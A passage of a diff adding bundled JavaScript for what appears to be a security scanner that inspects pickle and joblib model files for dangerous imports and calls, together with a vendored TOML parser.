+    const analysis = analyzePickle(bytes, this.options);
+    this.record(analysis, member, item.origin + position);
+    if (framing.end !== null) return framing.end;
+    return analysis.bytesConsumed > 0 ? position + analysis.bytesConsumed : null;
+  }
+  /** joblib: analyse the pickle with the raw array bytes cut out, and each object array's pickle on its own. */
+  async analyseJoblib(item, start2, end, arrays) {
+    const { source, member } = item;
+    const kept = [];
+    let cursor = start2;
+    let spliced = 0;
+    for (const array of arrays) {
+      kept.push({ from: cursor, to: array.offset, at: spliced });
+      spliced += array.offset - cursor;
+      cursor = array.offset + array.length;
+      this.layout.push({
+        name: `${member ?? ""}[array ${array.dtype} ${JSON.stringify(array.shape)}]`,
+        container: "joblib",
+        offset: item.origin + array.offset,
+        size: array.length,
+        compressedSize: array.length,
+        method: "raw",
+        role: array.objectPickle ? "pickle" : "tensor-data"
+      });
+    }
+    kept.push({ from: cursor, to: end, at: spliced });
+    spliced += end - cursor;
+    const chunks = [];
+    for (const piece of kept) chunks.push(await this.readPickleBytes(source, piece.from, piece.to - piece.from, member));
+    const analysis = withoutArrayWrapperIssues(analyzePickle(concatBytes(chunks), this.options));
+    const toOriginal = (offset) => {
+      let piece = kept[0];
+      for (const candidate of kept) if (candidate.at <= offset) piece = candidate;
+      return piece.from + (offset - piece.at) - start2;
+    };
+    this.record(remapOffsets(analysis, toOriginal), member, item.origin + start2);
+    for (const array of arrays) {
+      if (!array.objectPickle) continue;
+      const bytes = await this.readPickleBytes(source, array.offset, array.length, member);
+      this.record(analyzePickle(bytes, this.options), member, item.origin + array.offset);
+    }
+  }
+  async readPickleBytes(source, offset, length, member) {
+    const cap = this.options.limits.maxDecompressedBytes;
+    if (length > cap) {
+      this.warn(`pickle of ${length} bytes exceeds the ${cap}-byte limit; only its start was analysed`, member);
+      return readRange(source, offset, cap);
+    }
+    return readRange(source, offset, length);
+  }
+  record(analysis, member, baseOffset) {
+    this.analyses.push({ ...member !== void 0 ? { member } : {}, baseOffset, analysis });
+    if (analysis.error && analysis.isPickle) {
+      this.warn(`pickle analysis stopped at offset ${baseOffset + analysis.error.offset}: ${analysis.error.message}`, member);
+    }
+    const pending = [{ analysis, base: baseOffset }];
+    while (pending.length > 0) {
+      const { analysis: current, base, nestedIn } = pending.pop();
+      const hasNested = current.nested.length > 0;
+      for (const issue of current.issues) {
+        if (issue.kind === "nested-pickle" && hasNested) continue;
+        const located = nestedIn === void 0 ? { ...issue, ...issue.offset !== void 0 ? { offset: base + issue.offset } : {} } : { ...issue, offset: nestedIn, message: `${issue.message} (in a pickle nested at offset ${nestedIn})` };
+        this.addIssue(located, member, 0, nestedIn === void 0 ? { analysis: current, base } : void 0);
+      }
+      for (const inner of current.nested) {
+        pending.push({ analysis: inner.analysis, base: 0, nestedIn: nestedIn ?? base + inner.offset });
+      }
+    }
+  }
+  // ---- findings ----------------------------------------------------------------------------------
+  findings() {
+    const findings = [];
+    const seen = /* @__PURE__ */ new Set();
+    for (const { issue, member, baseOffset, from } of this.issues) {
+      const rule = ruleForIssue(issue);
+      const fingerprint = stableHash2([rule.id, this.relPath, member ?? "", issue.global ?? issue.message].join("\0"));
+      if (seen.has(fingerprint)) continue;
+      seen.add(fingerprint);
+      const offset = issue.offset ?? baseOffset;
+      findings.push({
+        ruleId: rule.id,
+        ruleName: rule.name,
+        message: member ? `${issue.message} (in ${member})` : issue.message,
+        severity: issue.severity,
+        confidence: rule.confidence,
+        location: {
+          file: this.relPath,
+          line: 1,
+          column: 1,
+          endLine: 1,
+          endColumn: 1,
+          snippet: opcodeListing(issue, offset, from),
+          ...member !== void 0 ? { member } : {},
+          offset
+        },
+        cwe: rule.cwe,
+        owasp: rule.owasp,
+        fingerprint
+      });
+    }
+    return findings;
+  }
+};
+var MAX_LISTING_LINES = 8;
+function opcodeListing(issue, offset, from) {
+  const lines = [];
+  if (from && issue.global) {
+    const { analysis, base } = from;
+    const rows = [
+      ...analysis.imports.filter((i2) => i2.normalized === issue.global).map((i2) => [i2.offset, `${i2.opcode} ${i2.normalized}`]),
+      ...analysis.calls.filter((c) => c.callee === issue.global).map((c) => [c.offset, `${c.opcode} ${c.callee}(${c.args})`])
+    ];
+    rows.sort((a, b) => a[0] - b[0]);
+    for (const [at, text] of rows.slice(0, MAX_LISTING_LINES)) lines.push(`@${base + at}  ${text}`);
+  }
+  if (lines.length === 0) lines.push(`@${offset}  ${issue.global ?? issue.kind}`);
+  return lines.join("\n");
+}
+function join2(parent, child) {
+  if (child === void 0) return parent;
+  return parent ? `${parent}/${child}` : child;
+}
+function withoutArrayWrapperIssues(analysis) {
+  const wrapper = /(^|\.)numpy_pickle\.NumpyArrayWrapper$/;
+  return { ...analysis, issues: analysis.issues.filter((issue) => !(issue.global && wrapper.test(issue.global))) };
+}
+function remapOffsets(analysis, map) {
+  return {
+    ...analysis,
+    imports: analysis.imports.map((i2) => ({ ...i2, offset: map(i2.offset) })),
+    calls: analysis.calls.map((c) => ({ ...c, offset: map(c.offset) })),
+    persistentIds: analysis.persistentIds.map((p) => ({ ...p, offset: map(p.offset) })),
+    issues: analysis.issues.map((i2) => i2.offset === void 0 ? i2 : { ...i2, offset: map(i2.offset) }),
+    nested: analysis.nested.map((n) => ({ ...n, offset: map(n.offset) })),
+    ...analysis.error ? { error: { ...analysis.error, offset: map(analysis.error.offset) } } : {}
+  };
+}
+
+// src/artifacts/index.ts
+function isArtifactCandidate(relPath, head) {
+  const lower = relPath.toLowerCase();
+  if (ARTIFACT_EXTENSIONS.some((ext) => lower.endsWith(ext))) return true;
+  if (head.length === 0) return false;
+  const format = sniffFormat(head);
+  if (format !== "unknown" && format !== "tar" && format !== "zlib") return true;
+  return looksLikeStrongPickle(head);
+}
+function looksLikeStrongPickle(head) {
+  return head[0] === 128 && head[1] !== void 0 && head[1] <= 5 && looksLikePickle(head);
+}
+
+// src/project/byte-source.ts
+import { open } from "node:fs/promises";
+async function openFileByteSource(path) {
+  const handle2 = await open(path, "r");
+  try {
+    const { size } = await handle2.stat();
+    let closed = false;
+    return {
+      size,
+      async read(offset, length) {
+        const start2 = Math.max(0, Math.min(offset, size));
+        const want = Math.max(0, Math.min(length, size - start2));
+        const buffer = new Uint8Array(want);
+        let got = 0;
+        while (got < want) {
+          const { bytesRead } = await handle2.read(buffer, got, want - got, start2 + got);
+          if (bytesRead === 0) break;
+          got += bytesRead;
+        }
+        return got === want ? buffer : buffer.subarray(0, got);
+      },
+      async close() {
+        if (closed) return;
+        closed = true;
+        await handle2.close();
+      }
+    };
+  } catch (error) {
+    await handle2.close();
+    throw error;
+  }
+}
+
+// src/project/artifacts.ts
+var ARTIFACT_CONCURRENCY = 4;
+async function scanArtifactFiles(files, pickle, onScanned) {
+  const result2 = { findings: [], errors: [], scanned: 0 };
+  let next = 0;
+  const worker = async () => {
+    for (let i2 = next++; i2 < files.length; i2 = next++) {
+      const file = files[i2];
+      let source;
+      try {
+        source = await openFileByteSource(file.absPath);
+      } catch (e) {
+        const err2 = e;
+        result2.errors.push({ file: file.relPath, kind: "unreadable", level: "warning", message: `cannot read file: ${err2.code ?? err2.message}` });
+        continue;
+      }
+      try {
+        const head = await source.read(0, SNIFF_BYTES);
+        if (!isArtifactCandidate(file.relPath, head)) continue;
+        const scanned = await scanArtifact(source, file.relPath, pickle);
+        result2.findings.push(...scanned.findings);
+        result2.errors.push(...scanned.errors);
+        result2.scanned++;
+        onScanned?.();
+      } catch (e) {
+        result2.errors.push({ file: file.relPath, kind: "internal", level: "error", message: `internal error while scanning artifact: ${e.message}` });
+      } finally {
+        await source.close();
+      }
+    }
+  };
+  await Promise.all(Array.from({ length: Math.min(ARTIFACT_CONCURRENCY, files.length) }, worker));
+  return result2;
+}
+function splitRulesets(specs) {
+  if (specs.length === 0) return { python: [], runPython: true, artifactRules: [...ARTIFACT_RULES] };
+  const python = [];
+  const chosen = /* @__PURE__ */ new Map();
+  for (const raw of specs) {
+    const spec = raw.trim();
+    const [lang, name2] = spec.includes("/") ? spec.split("/", 2) : ["", spec];
+    const isArtifact = lang.toLowerCase() === "artifact" || lang === "" && /^PICKLE-ARTIFACT-/i.test(name2);
+    if (!isArtifact) {
+      python.push(raw);
+      continue;
+    }
+    const lower = name2.toLowerCase();
+    const matches = lower === "all" || lower === "artifacts" ? ARTIFACT_RULES : ARTIFACT_RULES.filter((r) => r.id.toLowerCase() === lower);
+    if (matches.length === 0) {
+      return { error: `unknown ruleset "${spec}" (artifact rulesets: artifact/all or artifact/<PICKLE-ARTIFACT-ID>)` };
+    }
+    for (const rule of matches) chosen.set(rule.id, rule);
+  }
+  return {
+    python,
+    runPython: python.length > 0,
+    artifactRules: [...chosen.values()].sort((a, b) => a.id.localeCompare(b.id))
+  };
+}
+
+// src/project/config.ts
+var import_picomatch = __toESM(require_picomatch2(), 1);
+import { readFileSync, statSync } from "node:fs";
+import { basename, dirname as dirname2, isAbsolute, join as join3, relative, resolve as resolve2, sep } from "node:path";
+
+// ../../main/node_modules/smol-toml/dist/error.js
+function getLineColFromPtr(string, ptr) {
+  let lines = string.slice(0, ptr).split(/\r?\n/);
+  return [lines.length, lines.pop().length + 1];
+}
+function makeCodeBlock(string, line, column) {
+  let lines = string.split(/\r?\n/);
+  let codeblock = "";
+  let numberLen = (Math.log10(line + 1) | 0) + 1;
+  for (let i2 = line - 1; i2 <= line + 1; i2++) {
+    let l = lines[i2 - 1];
+    if (!l)
+      continue;
+    codeblock += i2.toString().padEnd(numberLen, " ");
+    codeblock += ":  ";
+    codeblock += l;
+    codeblock += "\n";
+    if (i2 === line) {
+      codeblock += " ".repeat(numberLen + column + 2);
+      codeblock += "^\n";
+    }
+  }
+  return codeblock;
+}
+var TomlError = class _TomlError extends Error {
+  line;
+  column;
+  codeblock;
+  constructor(message15, options) {
+    const [line, column] = getLineColFromPtr(options.toml, options.ptr);
+    const codeblock = makeCodeBlock(options.toml, line, column);
+    super(`Invalid TOML document: ${message15}
+
+${codeblock}`, options);
+    this.line = line;
+    this.column = column;
+    this.codeblock = codeblock;
+  }
+  /** @internal */
+  static x(message15, ctx, ptr) {
+    throw new _TomlError(message15, { toml: ctx.s, ptr: ptr ?? ctx.p });
+  }
+};
+
+// ../../main/node_modules/smol-toml/dist/primitive.js
+function parseString(ctx) {
+  let startPtr = ctx.p;
+  let c = ctx.s.charCodeAt(ctx.p++);
+  let first = c;
+  let isLiteral = c === 39;
+  let isMultiline = c === ctx.s.charCodeAt(ctx.p) && c === ctx.s.charCodeAt(ctx.p + 1);
+  if (isMultiline) {
+    if ((c = ctx.s.charCodeAt(ctx.p += 2)) === 10)
+      ctx.p++;
+    else if (c === 13 && ctx.s.charCodeAt(ctx.p + 1) === 10)
+      ctx.p += 2;
+  }
+  let parsed = "";
+  let sliceStart = ctx.p;
+  let state = 0;
+  for (; ctx.p < ctx.s.length; ctx.p++) {
+    c = ctx.s.charCodeAt(ctx.p);
+    if (isMultiline && (c === 10 || c === 13 && ctx.s.charCodeAt(ctx.p + 1) === 10)) {
+      state = state && 3;
+    } else if (c < 32 && c !== 9 || c === 127) {
+      TomlError.x("control characters are not allowed in strings", ctx);
+    } else if ((!state || state === 3) && c === first && (!isMultiline || ctx.s.charCodeAt(ctx.p + 1) === first && ctx.s.charCodeAt(ctx.p + 2) === first)) {
+      if (isMultiline) {
+        if (ctx.s.charCodeAt(ctx.p + 3) === first)
+          ctx.p++;
+        if (ctx.s.charCodeAt(ctx.p + 3) === first)
+          ctx.p++;
+      }
+      if (!state) {
+        let s = ctx.s.slice(sliceStart, ctx.p);
+        parsed = parsed ? parsed + s : s;
+      }
+      ctx.p += isMultiline ? 3 : 1;
+      return parsed;
+    } else if (!state) {
+      if (!isLiteral && c === 92) {
+        parsed += ctx.s.slice(sliceStart, sliceStart = ctx.p);
+        state = 1;
+      }
+    } else if (state === 1) {
+      if (c === 120 || c === 117 || c === 85) {
+        let errPtr = ctx.p++ - 1;
+        let value = 0;
+        let len = c === 120 ? 2 : c === 117 ? 4 : 8;
+        for (let j = 0; j < len; j++, ctx.p++) {
+          let hex = ctx.s.charCodeAt(ctx.p);
+          let digit = (
+            /* 0-9 */
+            hex >= 48 && hex <= 57 ? hex - 48 : (
+              /* A-F */
+              hex >= 65 && hex <= 70 ? hex - 65 + 10 : (
+                /* a-f */
+                hex >= 97 && hex <= 102 ? hex - 97 + 10 : -1
+              )
+            )
+          );
+          if (digit < 0)
+            TomlError.x("invalid non-hex character in unicode escape", ctx);
+          value = value << 4 | digit;
+        }
+        if (value < 0 || value > 1114111 || value >= 55296 && value <= 57343) {
+          TomlError.x("invalid unicode escape", ctx, errPtr);
+        }
+        parsed += String.fromCodePoint(value);
+        sliceStart = ctx.p--;
+        state = 0;
+      } else if (isMultiline && (c === 32 || c === 9)) {
+        state = 2;
+      } else {
+        if (c === 98)
+          parsed += "\b";
+        else if (c === 116)
+          parsed += "	";
+        else if (c === 110)
+          parsed += "\n";
+        else if (c === 102)
+          parsed += "\f";
+        else if (c === 114)
+          parsed += "\r";
+        else if (c === 101)
+          parsed += "\x1B";
+        else if (c === 34)
+          parsed += '"';
+        else if (c === 92)
+          parsed += "\\";
+        else
+          TomlError.x("unrecognised escape sequence", ctx);
+        sliceStart = ctx.p + 1;
+        state = 0;
+      }
+    } else if (c !== 32 && c !== 9) {
+      if (state === 2)
+        TomlError.x("invalid escape: only line-ending whitespace may be escaped", ctx, sliceStart);
+      state = !isLiteral && c === 92 ? 1 : 0;
+      sliceStart = ctx.p;
+    }
+  }
+  TomlError.x("unfinished string", ctx, startPtr);
+}
+
+// ../../main/node_modules/smol-toml/dist/date.js
+var DATE_TIME_RE = /^(\d{4}-\d{2}-\d{2})?[Tt ]?(?:(\d{2}):\d{2}(?::\d{2}(?:\.\d+)?)?)?(Z|z|[-+]\d{2}:\d{2})?$/i;
+var TomlDate = class _TomlDate extends Date {
+  #hasDate = false;
+  #hasTime = false;
+  #offset = null;
+  constructor(date, fasttype, unsafeDelim) {
+    let hasDate = true;
+    let hasTime = true;
+    let offset = "Z";
+    let c;
+    if (typeof date === "string") {
+      if (fasttype)
+        prep: {
+          if (fasttype < 3) {
+            if (+date.slice(11, 13) > 23) {
+              date = "";
+              break prep;
+            }
+            if (fasttype === 2) {
+              offset = null;
+              date += "Z";
+            } else if ((c = date.charCodeAt(date.length - 1)) !== 90 && c !== 122) {
+              offset = date.slice(date.length - 6);
+            }
+            if (unsafeDelim)
+              date = date.slice(0, 10) + "T" + date.slice(11);
+          } else if (fasttype === 4) {
+            date = +date.slice(0, 2) > 23 ? "" : `0000-01-01T${date}Z`;
+          }
+          hasDate = fasttype !== 4;
+          hasTime = fasttype !== 3;
+        }
+      else {
+        let match = date.match(DATE_TIME_RE);
+        if (match) {
+          if (!match[1]) {
+            hasDate = false;
+            date = `0000-01-01T${date}`;
+          }
+          hasTime = !!match[2];
+          hasTime && date[10] === " " && (date = date.replace(" ", "T"));
+          if (match[2] && +match[2] > 23) {
+            date = "";
+          } else {
+            offset = match[3] || null;
+            if (!offset && hasTime)
+              date += "Z";
+          }
+        } else {
+          date = "";
+        }
+      }
+    }
+    super(date);
+    if (!isNaN(this.getTime())) {
+      this.#hasDate = hasDate;
+      this.#hasTime = hasTime;
+      this.#offset = offset;
+    }
+  }
+  isDateTime() {
+    return this.#hasDate && this.#hasTime;
+  }
+  isLocal() {
+    return !this.#hasDate || !this.#hasTime || !this.#offset;
+  }
+  isDate() {
+    return this.#hasDate && !this.#hasTime;
+  }
+  isTime() {
+    return this.#hasTime && !this.#hasDate;
+  }
+  isValid() {
+    return this.#hasDate || this.#hasTime;
+  }
+  toISOString() {
+    let iso = super.toISOString();
+    if (this.isDate())
+      return iso.slice(0, 10);
+    if (this.isTime())
+      return iso.slice(11, 23);
+    if (this.#offset === null)
+      return iso.slice(0, -1);
+    if (this.#offset === "Z" || this.#offset === "z")
+      return iso;
+    let offset = +this.#offset.slice(1, 3) * 60 + +this.#offset.slice(4, 6);
+    offset = this.#offset[0] === "-" ? offset : -offset;
+    let offsetDate = new Date(this.getTime() - offset * 6e4);
+    return offsetDate.toISOString().slice(0, -1) + this.#offset;
+  }
+  static wrapAsOffsetDateTime(jsDate, offset = "Z") {
+    let date = new _TomlDate(jsDate);
+    date.#offset = offset;
+    return date;
+  }
+  static wrapAsLocalDateTime(jsDate) {
+    let date = new _TomlDate(jsDate);
+    date.#offset = null;
+    return date;
+  }
+  static wrapAsLocalDate(jsDate) {
+    let date = new _TomlDate(jsDate);
+    date.#hasTime = false;
+    date.#offset = null;
+    return date;
+  }
+  static wrapAsLocalTime(jsDate) {
+    let date = new _TomlDate(jsDate);
+    date.#hasDate = false;
+    date.#offset = null;
+    return date;
+  }
+};
+
+// ../../main/node_modules/smol-toml/dist/extract.js
+function isDigit(char, base = 10) {
+  return base === 16 ? char > 47 && char < 58 || char > 64 && char < 71 || char > 96 && char < 103 : char > 47 && char < 48 + base;
+}
+function isEndOfValue(char, delim) {
+  return char === 32 || char === 9 || char === 10 || char === 13 || // Structure end or next value delimiter
+  delim && (char === delim || char === 44) || // Comment
+  char === 35;
+}
+function extractValue2(ctx, end) {
+  let errPtr = ctx.p;
+  let c = ctx.s.charCodeAt(ctx.p);
+  if (c === 91 || c === 123) {
+    ctx.d-- || TomlError.x("document contains excessively nested structures. aborting.", ctx);
+    let value = c === 91 ? parseArray(ctx) : parseInlineTable(ctx);
+    ctx.d++;
+    return value;
+  }
+  if (c === 34 || c === 39) {
+    return parseString(ctx);
+  }
+  if (c === 116) {
+    if (ctx.s.charCodeAt(++ctx.p) !== 114 || ctx.s.charCodeAt(++ctx.p) !== 117 || ctx.s.charCodeAt(++ctx.p) !== 101)
+      TomlError.x("invalid value", ctx, errPtr);
+    return ctx.p++, true;
+  }
+  if (c === 102) {
+    if (ctx.s.charCodeAt(++ctx.p) !== 97 || ctx.s.charCodeAt(++ctx.p) !== 108 || ctx.s.charCodeAt(++ctx.p) !== 115 || ctx.s.charCodeAt(++ctx.p) !== 101)
+      TomlError.x("invalid value", ctx, errPtr);
+    return ctx.p++, false;
+  }
+  if (c === 43 || c === 45) {
+    return parseNumber(ctx, ctx.p, ctx.s.charCodeAt(++ctx.p), 44 - c, end);
+  }
+  if (ctx.s.charCodeAt(ctx.p + 4) === 45 && ctx.s.charCodeAt(ctx.p + 7) === 45) {
+    return parseDate(ctx, c, end);
+  }
+  if (ctx.s.charCodeAt(ctx.p + 2) === 58) {
+    return parseTime(ctx, c, end);
+  }
+  return parseNumber(ctx, ctx.p, c, 0, end);
+}
+function parseNumber(ctx, startPtr, startChr, sign, endChr) {
+  let c = startChr;
+  let state = 0;
+  let hasUnderscores = false;
+  if (c === 105) {
+    if (ctx.s.charCodeAt(++ctx.p) !== 110 || ctx.s.charCodeAt(++ctx.p) !== 102)
+      TomlError.x("invalid value", ctx, startPtr);
+    return ctx.p++, (sign || 1) / 0;
+  }
+  if (c === 110) {
+    if (ctx.s.charCodeAt(++ctx.p) !== 97 || ctx.s.charCodeAt(++ctx.p) !== 110)
+      TomlError.x("invalid value", ctx, startPtr);
+    return ctx.p++, NaN;
+  }
+  if (c === 48) {
+    if (++ctx.p >= ctx.s.length || isEndOfValue(c = ctx.s.charCodeAt(ctx.p), endChr))
+      return ctx.bi === true ? 0n : 0;
+    if (!sign) {
+      if (c === 120)
+        return parseIntegerBaseN(ctx, startPtr, 16, endChr);
+      else if (c === 98)
+        return parseIntegerBaseN(ctx, startPtr, 2, endChr);
+      else if (c === 111)
+        return parseIntegerBaseN(ctx, startPtr, 8, endChr);
+    }
+    if (c === 46)
+      state = 2;
+    else if (c === 101 || c === 69)
+      state = 4;
+    else
+      TomlError.x("illegal leading zero", ctx, startPtr);
+  } else if (!isDigit(c))
+    TomlError.x("invalid value", ctx, startPtr);
+  while (++ctx.p < ctx.s.length && (c = ctx.s.charCodeAt(ctx.p), !isEndOfValue(c, endChr))) {
+    if (!state)
+      state = 1;
+    if (c === 95) {
+      if (!(state & 1))
+        TomlError.x("illegal underscore", ctx);
+      state += 11;
+      hasUnderscores = true;
+    } else if (state === 1 && c === 46)
+      state = 2;
+    else if ((state === 1 || state === 3) && (c === 101 || c === 69))
+      state = 4;
+    else if (state === 4 && (c === 43 || c === 45)) {
+      state = 6;
+    } else if (!isDigit(c))
+      TomlError.x(`illegal character in numeric literal`, ctx);
+    else if (state > 9)
+      state -= 11;
+    else if (!(state & 1))
+      state++;
+  }
+  if (!state) {
+    let val = (startChr - 48) * (sign || 1);
+    return ctx.bi === true ? BigInt(val) : val;
+  }
+  if (!(state & 1))
+    TomlError.x("unfinished numeric value", ctx, startPtr);
+  let str = ctx.s.slice(startPtr, ctx.p);
+  if (hasUnderscores)
+    str = str.replaceAll("_", "");
+  return state > 1 ? parseFloat(str) : parseInteger(ctx, str, 10, startPtr);
+}
+function parseIntegerBaseN(ctx, startPtr, base, endChr) {
+  let c, underscore = 1;
+  while (++ctx.p < ctx.s.length && (c = ctx.s.charCodeAt(ctx.p), !isEndOfValue(c, endChr))) {
+    if (c === 95) {
+      if (underscore & 1)
+        TomlError.x("illegal underscore", ctx);
+      underscore = 3;
+    } else if (!isDigit(c, base))
+      TomlError.x(`illegal character in numeric literal`, ctx);
+    else if (underscore & 1)
+      underscore--;
+  }
+  if (underscore & 1)
+    TomlError.x("unfinished numeric value", ctx);
+  let str = ctx.s.slice(startPtr + 2, ctx.p);
+  if (underscore)
+    str = str.replaceAll("_", "");
+  return parseInteger(ctx, str, base, startPtr);
+}
+function parseInteger(ctx, str, base, startPtr) {
+  if (ctx.bi !== true)
+    int: {
+      let val = parseInt(str, base);
+      if (!Number.isSafeInteger(val)) {
+        if (ctx.bi)
+          break int;
+        TomlError.x("integer value cannot be represented losslessly", ctx, startPtr);
+      }
+      return val;
+    }
+  return base === 10 ? BigInt(str) : BigInt((base === 2 ? "0b" : base === 8 ? "0o" : "0x") + str);
+}
+function parseDate(ctx, c, endChr) {
+  let startPtr = ctx.p++, unsafeSeparator;
+  if (!isDigit(c) || !isDigit(ctx.s.charCodeAt(ctx.p++)) || !isDigit(ctx.s.charCodeAt(ctx.p++)) || !isDigit(ctx.s.charCodeAt(ctx.p++))) {
+    return parseNumber(ctx, ctx.p = startPtr, c, 0, endChr);
+  }
+  ctx.p += 5;
+  if (!isDigit(ctx.s.charCodeAt(ctx.p++)))
+    TomlError.x("invalid date-time: date part is malformed", ctx, startPtr);
+  if (ctx.p >= ctx.s.length || ((c = ctx.s.charCodeAt(ctx.p)) !== 32 || (unsafeSeparator = true, !isDigit(ctx.s.charCodeAt(ctx.p + 1)))) && c !== 84 && c !== 116) {
+    let t2 = ctx.s.slice(startPtr, ctx.p);
+    return readDate(ctx, t2, 3, false, startPtr);
+  }
+  if (ctx.s.charCodeAt(ctx.p += 3) !== 58)
+    TomlError.x("invalid date-time: time part is malformed", ctx, startPtr);
+  if (ctx.s.charCodeAt(ctx.p += 3) === 58)
+    ctx.p += 3;
+  if (ctx.s.charCodeAt(ctx.p) === 46)
+    while (isDigit(ctx.s.charCodeAt(++ctx.p)))
+      ;
+  if (c = ctx.s.charCodeAt(ctx.p)) {
+    if (c === 90 || c === 122) {
+      let t2 = ctx.s.slice(startPtr, ++ctx.p);
+      return readDate(ctx, t2, 1, unsafeSeparator, startPtr, "[+00:00]");
+    }
+    if (c === 43 || c === 45) {
+      let t2 = ctx.s.slice(startPtr, ctx.p += 6);
+      return readDate(ctx, t2, 1, unsafeSeparator, startPtr, !ctx.ld && "[" + ctx.s.slice(ctx.p - 6, ctx.p) + "]");
+    }
+  }
+  let t = ctx.s.slice(startPtr, ctx.p);
+  return readDate(ctx, t, 2, unsafeSeparator, startPtr);
+}
+function parseTime(ctx, c, endChr) {
+  let start2 = ctx.p;
+  if (!isDigit(c) || !isDigit(ctx.s.charCodeAt(++ctx.p))) {
+    return parseNumber(ctx, --ctx.p, c, 0, endChr);
+  }
+  if (ctx.s.charCodeAt(ctx.p += 4) === 58)
+    ctx.p += 3;
+  if (ctx.s.charCodeAt(ctx.p) === 46)
+    while (isDigit(ctx.s.charCodeAt(++ctx.p)))
+      ;
+  let t = ctx.s.slice(start2, ctx.p);
+  return readDate(ctx, t, 4, false, start2);
+}
+function readDate(ctx, str, type, unsafeDelim, errPtr, temporalSuffix) {
+  if (ctx.ld) {
+    let date = new TomlDate(str, type, unsafeDelim);
+    if (!date.isValid())
+      TomlError.x("invalid date", ctx, errPtr);
+    return date;
+  }
+  try {
+    if (temporalSuffix)
+      str += temporalSuffix;
+    switch (type) {
+      case 1:
+        return Temporal.ZonedDateTime.from(str);
+      case 2:
+        return Temporal.PlainDateTime.from(str);
+      case 3:
+        return Temporal.PlainDate.from(str);
+      case 4:
+        return Temporal.PlainTime.from(str);
+    }
+  } catch (e) {
+    TomlError.x(e instanceof Error ? e.message : "" + e, ctx, errPtr);
+  }
+}
+
+// ../../main/node_modules/smol-toml/dist/util.js
+function skipComment(ctx) {
+  for (; ctx.p < ctx.s.length; ctx.p++) {
+    let c = ctx.s.charCodeAt(ctx.p);
+    if (c === 10)
+      break;
+    if (c === 13 && ctx.s.charCodeAt(ctx.p + 1) === 10) {
+      ctx.p++;
+      break;
+    }
+    if (c < 32 && c !== 9 || c === 127) {
+      TomlError.x("control characters are not allowed in comments", ctx);
+    }
+  }
+}
+function skipVoid(ctx, banNewLines, banComments) {
+  let c;
+  while (ctx.p < ctx.s.length) {
+    while (ctx.p < ctx.s.length && ((c = ctx.s.charCodeAt(ctx.p)) === 32 || c === 9 || !banNewLines && (c === 10 || c === 13 && ctx.s.charCodeAt(ctx.p + 1) === 10)))
+      ctx.p++;
+    if (banComments || c !== 35)
+      break;
+    skipComment(ctx);
+  }
+}
+
+// ../../main/node_modules/smol-toml/dist/struct.js
+function parseKey(ctx, end = 61) {
+  let startPtr;
+  let state = 0;
+  let parsed = [];
+  let sliceStart;
+  let c = ctx.s.charCodeAt(startPtr = ctx.p);
+  do {
+    if (c === end) {
+      if (!state)
+        TomlError.x("unexpected end of key", ctx);
+      if (state === 1)
+        parsed.push(ctx.s.slice(sliceStart, ctx.p));
+      return ctx.p++, parsed;
+    } else if (c === 46) {
+      if (!state)
+        TomlError.x("illegal empty bare key", ctx);
+      if (state === 1)
+        parsed.push(ctx.s.slice(sliceStart, ctx.p));
+      state = 0;
+    } else if (!state && (c === 34 || c === 39)) {
+      if (c === ctx.s.charCodeAt(ctx.p + 1) && c === ctx.s.charCodeAt(ctx.p + 2))
+        TomlError.x("illegal quoted key: multiline strings are not allowed", ctx);
+      parsed.push(parseString(ctx));
+      state = 2;
+      ctx.p--;
+    } else if (c === 32 || c === 9) {
+      if (state === 1) {
+        parsed.push(ctx.s.slice(sliceStart, ctx.p));
+        state = 2;
+      }
+    } else if (state === 2 || c < 48 && c !== 45 || c > 57 && c < 65 || c > 90 && c < 97 && c !== 95 || c > 122) {
+      TomlError.x("illegal character in key", ctx);
+    } else if (!state) {
+      state = 1;
+      sliceStart = ctx.p;
+    }
+  } while (c = ctx.s.charCodeAt(++ctx.p));
+  TomlError.x("incomplete key-value: cannot find end of key", ctx, startPtr);
+}
+function parseInlineTable(ctx) {
+  let startPtr = ctx.p++;
+  let res = /* @__PURE__ */ Object.create(null);
+  let seen = /* @__PURE__ */ new Set();
+  let c;
+  while (ctx.p < ctx.s.length) {
+    skipVoid(ctx);
+    if ((c = ctx.s.charCodeAt(ctx.p)) === 125) {
+      ctx.p++;
+      return res;
+    }
+    let k;
+    let t = res;
+    let hasOwn = false;
+    let errPtr = ctx.p;
+    let key = parseKey(ctx);
+    for (let i2 = 0; i2 < key.length; i2++) {
+      if (i2)
+        t = hasOwn ? t[k] : t[k] = /* @__PURE__ */ Object.create(null);
+      k = key[i2];
+      if ((hasOwn = Object.hasOwn(t, k)) && (typeof t[k] !== "object" || seen.has(t[k]))) {
+        TomlError.x("trying to redefine an already defined value", ctx, errPtr);
+      }
+      let unsafe = k === "__proto__";
+      if (ctx.uk && (unsafe || k === "constructor")) {
+        t = ctx.uk !== 1 && TomlError.x("document contains an unsafe property", ctx, errPtr);
+        break;
+      }
+      if (!hasOwn && unsafe) {
+        Object.defineProperty(t, k, { enumerable: true, configurable: true, writable: true });
+      }
+    }
+    if (hasOwn) {
+      TomlError.x("trying to redefine an already defined value", ctx, errPtr);
+    }
+    skipVoid(ctx, true, true);
+    let value = extractValue2(
+      ctx,
+      125
+      /* } */
+    );
+    if (t && typeof (t[k] = value) === "object")
+      seen.add(value);
+    skipVoid(ctx);
+    if ((c = ctx.s.charCodeAt(ctx.p++)) === 125) {
+      return res;
+    }
+    if (c !== 44)
+      TomlError.x("expected comma or end of structure", ctx, ctx.p - 1);
+  }
+  TomlError.x("unfinished table", ctx, startPtr);
+}
+function parseArray(ctx) {
+  let startPtr = ctx.p++;
+  let res = [];
+  let c;
+  while (ctx.p < ctx.s.length) {
+    skipVoid(ctx);
+    if ((c = ctx.s.charCodeAt(ctx.p)) === 93) {
+      ctx.p++;
+      return res;
+    }
+    res.push(extractValue2(
+      ctx,
+      93
+      /* ] */
+    ));
+    skipVoid(ctx);
+    if ((c = ctx.s.charCodeAt(ctx.p++)) === 93) {
+      return res;
+    }
+    if (c !== 44)
+      TomlError.x("expected comma or end of structure", ctx, ctx.p - 1);
+  }
+  TomlError.x("unfinished array", ctx, startPtr);
+}
+
+// ../../main/node_modules/smol-toml/dist/parse.js
+function peekTable(ctx, key, table, meta, type) {
+  let t = table;
+  let m = meta;
+  let k;
+  let hasOwn = false;
+  let state;
+  for (let i2 = 0; i2 < key.length; i2++) {
+    if (i2) {
+      t = hasOwn ? t[k] : t[k] = /* @__PURE__ */ Object.create(null);
+      m = (state = m[k]).c;
+      if (type === 0 && (state.t === 1 || state.t === 2)) {
+        return null;
+      }
